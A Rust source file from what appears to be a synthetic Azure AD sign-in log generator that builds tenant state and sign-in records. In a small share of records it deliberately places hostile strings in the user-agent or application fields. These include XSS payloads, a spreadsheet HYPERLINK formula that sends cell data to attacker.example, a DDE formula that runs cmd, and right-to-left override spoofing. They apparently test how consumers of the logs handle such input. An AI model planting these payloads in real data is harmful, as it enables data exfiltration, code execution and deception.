//! The tenant as a whole, and the making of any one of its sign-ins.

use crate::Settings;
use crate::applications::{Application, Applications};
use crate::clock::Clock;
use crate::guid::Guid;
use crate::kinds::interactive::Aim;
use crate::kinds::{interactive, managed_identity, non_interactive, service_principal};
use crate::people::People;
use crate::plan::{Plan, Role, Slot};
use crate::random::{Random, Stream, hash, mix};
use crate::record::{Head, SignIn};
use crate::stories;
use crate::workloads::Workloads;
use crate::write::TICKS_PER_SECOND;

/// Share of interactive sign-ins among those of people outside episodes; with the episodes, 22 % of
/// all records are interactive.
const INTERACTIVE_SHARE: f64 = 0.2947;
const PRINCIPAL_SHARE: f64 = 25.0 / 33.0;

/// One record in this many carries hostile text.
const HOSTILE_EVERY: u64 = 20_000;
const HOSTILE_AT: u64 = 10_007;

static HOSTILE: [(bool, &str); 6] = [
    (true, "<script>alert('agent')</script>"),
    (
        true,
        "=HYPERLINK(\"https://attacker.example/?\"&A1,\"open\")",
    ),
    (
        true,
        "Mozilla/5.0 \u{202e}gnp.exe\u{200f} \"quoted\" back\\slash",
    ),
    (false, "<img src=x onerror=alert(1)>Expense Portal"),
    (false, "@SUM(1+1)*cmd|' /C calc'!A0"),
    (false, "\u{202e}troppuS TI"),
];

/// Everything that stays the same for a run.
pub(crate) struct World {
    pub(crate) seed: u64,
    pub(crate) tenant_id: Guid,
    /// Path of the tenant in Azure Monitor.
    pub(crate) resource_path: String,
    pub(crate) clock: Clock,
    pub(crate) plan: Plan,
    pub(crate) applications: Applications,
    pub(crate) people: People,
    pub(crate) workloads: Workloads,
}

impl World {
    pub(crate) fn new(settings: Settings) -> Self {
        let seed = settings.seed;
        let tenant_id = Random::new(seed, Stream::People, u64::MAX).guid();
        let until = settings.until;
        let until_ticks =
            until.timestamp() * TICKS_PER_SECOND + i64::from(until.timestamp_subsec_nanos()) / 100;
        let clock = Clock::new(until_ticks, settings.days);
        let applications = Applications::new(seed);
        let count = (settings.rows / 100).clamp(800, 50_000) as usize;
        Self {
            seed,
            tenant_id,
            resource_path: format!("/tenants/{}/providers/Microsoft.aadiam", tenant_id.text()),
            plan: Plan::new(seed, settings.rows, settings.days, &clock),
            people: People::new(seed, count, &applications),
            workloads: Workloads::new(seed, count),
            applications,
            clock,
        }
    }

    /// The application that everybody uses.
    pub(crate) fn everyday_application(&self) -> &Application {
        self.applications
            .find(|application| application.name == "OfficeHome")
    }

    /// The sign-in of a row.
    pub(crate) fn sign_in(&self, row: u64, slot: Slot) -> SignIn<'_> {
        let unique = hash(self.seed, Stream::Request, 0).wrapping_add(row);
        let id = Guid::request(mix(unique), mix(!unique));
        match slot {
            Slot::Story(position) => {
                let event = self.plan.events[position];
                let correlation =
                    Random::new(self.seed, Stream::Correlation, 1 << 63 | position as u64).guid();
                stories::sign_in(
                    self,
                    event,
                    self.head(event.ticks, event.ticks, id, correlation),
                )
            }
            Slot::Everyday(number, role) => {
                let ticks = self.plan.everyday_ticks(number, &self.clock);
                self.everyday(number, role, ticks, id)
            }
        }
    }

    fn head(&self, ticks: i64, started_ticks: i64, id: Guid, correlation: Guid) -> Head {
        // Records leave Azure Monitor within minutes.
        let delay = 20 * TICKS_PER_SECOND + ticks.rem_euclid(140 * TICKS_PER_SECOND);
        let emitted_ticks = (ticks + delay).min(self.clock.until_ticks()).max(ticks);
        Head {
            ticks,
            started_ticks,
            emitted_ticks,
            id,
            correlation,
        }
    }

    fn everyday(&self, number: u64, role: Role, ticks: i64, id: Guid) -> SignIn<'_> {
        let (origin, origin_ticks) = match role {
            Role::Follow(lead) => (lead, self.plan.everyday_ticks(lead, &self.clock)),
            _ => (number, ticks),
        };
        let correlation = Random::new(self.seed, Stream::Correlation, origin).guid();
        let head = self.head(ticks, origin_ticks, id, correlation);
        let random = &mut Random::new(self.seed, Stream::Row, origin);
        let is_hostile = number % HOSTILE_EVERY == HOSTILE_AT;
        let is_person = random.chance(self.clock.people_share(origin_ticks));
        if role == Role::Alone && !is_person && !is_hostile {
            return if random.chance(PRINCIPAL_SHARE) {
                SignIn::Principal(service_principal::make(self, random, head))
            } else {
                SignIn::Identity(managed_identity::make(self, random, head))
            };
        }
        let office = self.clock.office_at(origin_ticks, random.unit());
        let person = self.people.somebody(random, office);
        let is_interactive = random.chance(INTERACTIVE_SHARE);
        let mut sign_in = match role {
            Role::Lead => interactive::make(self, random, head, person, Aim::FirstAttempt),
            Role::Follow(_) => interactive::make(self, random, head, person, Aim::SecondAttempt),
            Role::Alone if is_interactive => {
                interactive::make(self, random, head, person, Aim::Anything)
            }
            Role::Alone => non_interactive::make(self, random, head, person),
        };
        if is_hostile {
            let (is_agent, text) = HOSTILE[(number / HOSTILE_EVERY) as usize % HOSTILE.len()];
            if is_agent {
                sign_in.hostile_user_agent = Some(text);
            } else {
                sign_in.hostile_application = Some(text);
            }
        }
        SignIn::User(sign_in)
    }
}
